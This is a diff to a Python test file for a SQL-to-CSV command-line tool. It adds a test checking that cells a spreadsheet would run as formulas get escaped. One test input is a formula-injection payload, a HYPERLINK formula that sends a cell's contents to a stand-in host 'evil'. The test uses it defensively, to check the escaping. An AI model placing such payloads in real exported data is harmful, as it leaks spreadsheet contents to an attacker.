@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -42,6 +44,19 @@ def test_query_formats(demo_dir: Path, capsys) -> None:
     )
     assert main(["query", str(demo_dir), sql, "--format", "csv"]) == 0
     assert capsys.readouterr().out.splitlines()[0] == "status,n"
+
+
+def test_query_csv_escapes_text_a_spreadsheet_would_run(demo_dir: Path, capsys) -> None:
+    sql = (
+        'SELECT \'=HYPERLINK("http://evil/?x="&A1,"click")\' AS "=link", -5 AS n, '
+        "-1.5 AS x, '-5' AS t, ['@a', 'b'] AS l, 'POS' || chr(13) || '=2+2' AS r, 'ok' AS s"
+    )
+    assert main(["query", str(demo_dir), sql, "--format", "csv"]) == 0
+    header, row = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
+    assert header == ["'=link", "n", "x", "t", "l", "r", "s"]
+    assert row[:4] == ['\'=HYPERLINK("http://evil/?x="&A1,"click")', "-5", "-1.5", "'-5"]
+    assert row[4].startswith("[") and "'@a'" in row[4]  # a list: its text starts with [
+    assert row[5:] == ["POS\r=2+2", "ok"]  # one cell, quoted: the CR cannot start a row
 
 
 def test_errors_are_one_line_and_exit_1(tmp_path: Path, capsys) -> None:
